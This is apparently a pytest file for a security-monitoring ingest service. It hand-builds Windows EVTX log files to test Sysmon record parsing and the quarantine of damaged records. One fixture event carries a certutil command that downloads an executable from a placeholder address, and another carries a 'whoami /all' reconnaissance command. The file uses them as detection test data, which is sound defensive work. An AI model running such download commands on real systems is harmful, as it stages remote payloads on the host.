"""Windows .evtx through the real `evtx` parser, on a small file this test writes itself.

No redistributable .evtx sample was available (the attack-sample corpus is GPL and stays out of
the repository), so the file is built here byte by byte after the published EVTX layout (libyal's
"Windows XML Event Log (EVTX)" notes): a 4 KiB file header, one 64 KiB chunk, and records whose
Binary XML spells elements out inline (no templates). CRC32 checksums are real, so the parser
reads it as it reads files from Windows.
"""

from __future__ import annotations

import struct
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cityops.services.soc.ingest import IngestedEvent, Quarantined
from cityops.services.soc.ingest.files import IngestFileError, read_file

CHUNK_SIZE, FILE_HEADER_SIZE, CHUNK_HEADER_SIZE = 65536, 4096, 512
Element = tuple[str, dict[str, str], "list[Element] | str | int | None"]


class _BinXml:
    """Binary XML for one record; name offsets are relative to the chunk start."""

    def __init__(self, base: int) -> None:
        self.base = base  # chunk offset where this fragment's first byte will land
        self.out = bytearray(b"\x0f\x01\x01\x00")  # fragment header, version 1.1

    def _name(self, name: str) -> None:
        here = self.base + len(self.out) + 4
        text = name.encode("utf-16-le")
        self.out += struct.pack("<IIHH", here, 0, 0, len(name)) + text + b"\x00\x00"

    def _value(self, value: str | int) -> None:
        if isinstance(value, int):
            self.out += b"\x05\x06" + struct.pack("<H", value)  # UInt16
        else:
            self.out += b"\x05\x01" + struct.pack("<H", len(value)) + value.encode("utf-16-le")

    def element(self, node: Element) -> None:
        name, attributes, content = node
        # No dependency id: evtx reads inline elements without one (older releases detect its
        # absence by their own heuristic and read it the same way).
        self.out += b"\x41" if attributes else b"\x01"
        size_at = len(self.out)
        self.out += b"\x00\x00\x00\x00"
        self._name(name)
        if attributes:
            list_at = len(self.out)
            self.out += b"\x00\x00\x00\x00"
            for i, (key, value) in enumerate(attributes.items()):
                self.out += b"\x46" if i < len(attributes) - 1 else b"\x06"
                self._name(key)
                self._value(value)
            struct.pack_into("<I", self.out, list_at, len(self.out) - list_at - 4)
        if content is None:
            self.out += b"\x03"  # empty element
        else:
            self.out += b"\x02"
            if isinstance(content, list):
                for child in content:
                    self.element(child)
            else:
                self._value(content)
            self.out += b"\x04"
        struct.pack_into("<I", self.out, size_at, len(self.out) - size_at - 4)


def _filetime(moment: datetime) -> int:
    return int((moment.timestamp() + 11644473600) * 10_000_000)


def write_evtx(path: Path, events: list[Element], written: datetime) -> None:
    records, offset = bytearray(), CHUNK_HEADER_SIZE
    last_offset = offset
    for record_id, event in enumerate(events, 1):
        xml = _BinXml(offset + 24)
        xml.element(event)
        xml.out += b"\x00"  # end of fragment
        size = 24 + len(xml.out) + 4
        record = struct.pack("<IIQQ", 0x2A2A, size, record_id, _filetime(written))
        record += xml.out + struct.pack("<I", size)
        last_offset = offset
        records += record
        offset += len(record)
    n = len(events)
    chunk = bytearray(CHUNK_SIZE)
    chunk[CHUNK_HEADER_SIZE: offset] = records
    struct.pack_into("<8sQQQQIIII", chunk, 0, b"ElfChnk\x00", 1, n, 1, n, 128, last_offset,
                     offset, zlib.crc32(bytes(records)))
    struct.pack_into("<I", chunk, 124, zlib.crc32(bytes(chunk[:120] + chunk[128:512])))
    header = bytearray(FILE_HEADER_SIZE)
    struct.pack_into("<8sQQQIHHHH", header, 0, b"ElfFile\x00", 0, 0, n + 1, 128, 1, 3,
                     FILE_HEADER_SIZE, 1)
    struct.pack_into("<I", header, 124, zlib.crc32(bytes(header[:120])))
    path.write_bytes(bytes(header) + bytes(chunk))


def _sysmon(record_id: int, image: str, command_line: str) -> Element:
    return ("Event", {}, [
        ("System", {}, [
            ("Provider", {"Name": "Microsoft-Windows-Sysmon"}, None),
            ("EventID", {}, 1),
            ("TimeCreated", {"SystemTime": "2026-11-29T02:21:43.971234Z"}, None),
            ("EventRecordID", {}, str(record_id)),
            ("Channel", {}, "Microsoft-Windows-Sysmon/Operational"),
            ("Computer", {}, "PC-KETOAN-02.daklak.local"),
        ]),
        ("EventData", {}, [
            ("Data", {"Name": "Image"}, image),
            ("Data", {"Name": "CommandLine"}, command_line),
            ("Data", {"Name": "User"}, "DAKLAK\\ketoan2"),
        ]),
    ])


def test_real_evtx_file_is_read_and_normalised(tmp_path: Path) -> None:
    path = tmp_path / "sysmon.evtx"
    write_evtx(path, [
        _sysmon(1, "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe"),
        _sysmon(2, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ("Event", {}, [("System", {}, [("Channel", {}, "Security")])]),  # no EventID
    ], datetime(2026, 11, 29, 2, 21, 44, tzinfo=UTC))
    got = list(read_file(path, source="evtx-upload"))  # format detected from the magic
    assert [type(g).__name__ for g in got] == ["IngestedEvent", "IngestedEvent", "Quarantined"]
    first = got[0]
    assert isinstance(first, IngestedEvent) and first.source == "evtx-upload"
    assert first.sigma["Image"] == "C:\\Windows\\System32\\certutil.exe"
    assert first.sigma["EventID"] == 1
    assert first.sigma["Provider_Name"] == "Microsoft-Windows-Sysmon"
    assert first.fields["host.name"] == "PC-KETOAN-02.daklak.local"
    assert first.fields["@timestamp"] == "2026-11-29T02:21:43.971234Z"
    assert (first.fields["process.name"], first.fields["user.name"]) == ("certutil.exe", "ketoan2")
    assert ("windows", "process_creation", None) in first.logsource
    assert got[1].fields["process.command_line"] == "whoami /all"  # type: ignore[union-attr]
    bad = got[2]
    assert isinstance(bad, Quarantined) and "EventID" in bad.reason and "Security" in bad.raw


def test_damaged_evtx_is_refused_or_its_records_quarantined(tmp_path: Path) -> None:
    path = tmp_path / "broken.evtx"
    write_evtx(path, [_sysmon(1, "C:\\a.exe", "a")], datetime(2026, 11, 29, tzinfo=UTC))
    data = bytearray(path.read_bytes())
    data[FILE_HEADER_SIZE + CHUNK_HEADER_SIZE + 24: FILE_HEADER_SIZE + CHUNK_HEADER_SIZE + 40] = (
        b"\x7f" * 16)  # garble the record's Binary XML
    path.write_bytes(bytes(data))
    got = list(read_file(path, "evtx"))
    assert got and all(isinstance(g, Quarantined) for g in got)
    assert "EVTX record cannot be read" in got[0].reason  # type: ignore[union-attr]
    truncated = tmp_path / "truncated.evtx"
    truncated.write_bytes(b"ElfFile\x00" + b"\x01" * 100)
    with pytest.raises(IngestFileError, match="EVTX file cannot be parsed"):
        read_file(truncated, "evtx")
